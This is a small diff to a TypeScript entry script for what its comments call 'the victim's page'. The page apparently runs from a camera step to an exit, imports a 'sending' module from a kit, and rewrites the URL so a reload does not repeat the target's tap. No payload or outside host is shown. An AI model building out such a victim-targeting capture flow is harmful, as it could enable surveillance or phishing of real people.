@@ -1,11 +1,13 @@
-// The victim's pages. On the first there is only a button; all the rest is one page that never reloads by itself.
+// The victim's page from the camera to the end: one page that never reloads by itself.
 import { startSendingOnce } from "#kit/sending";
 
 import { startExit } from "./exit";
 import { PhonePage } from "./page";
 import { readPageData } from "./state";
 
-startSendingOnce();
 const data = readPageData();
-startExit(data?.urls.leave ?? "/p/leave");
-if (data) new PhonePage(data).start();
+// It is the answer to her tap on the first page: a reload asks for this page, and does not tap again.
+if (location.pathname !== data.urls.page) history.replaceState(null, "", data.urls.page);
+startSendingOnce();
+startExit(data.urls.leave);
+new PhonePage(data).start();
